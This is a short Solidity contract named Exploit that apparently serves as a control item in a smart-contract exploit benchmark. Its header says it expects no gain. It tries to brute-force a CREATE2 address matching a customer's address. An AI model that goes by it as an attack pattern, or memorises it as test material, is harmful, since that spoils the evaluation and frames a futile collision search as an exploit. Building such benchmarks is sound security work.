// attack: makes contracts until one has the address of somebody else
// ends: NO_GAIN
// size: 10000000
// control: 3
pragma solidity ^0.8.20;

contract Exploit {
    uint256 private kept;

    function at(uint256 salt) private returns (address made) {
        assembly { made := create2(0, 0, 0, salt) }
    }

    function run(address market, address token, address customer) external {
        market; token; customer;
        for (uint256 salt; salt < SIZE; salt++) kept |= at(salt) == customer ? 1 : 0;
    }
}
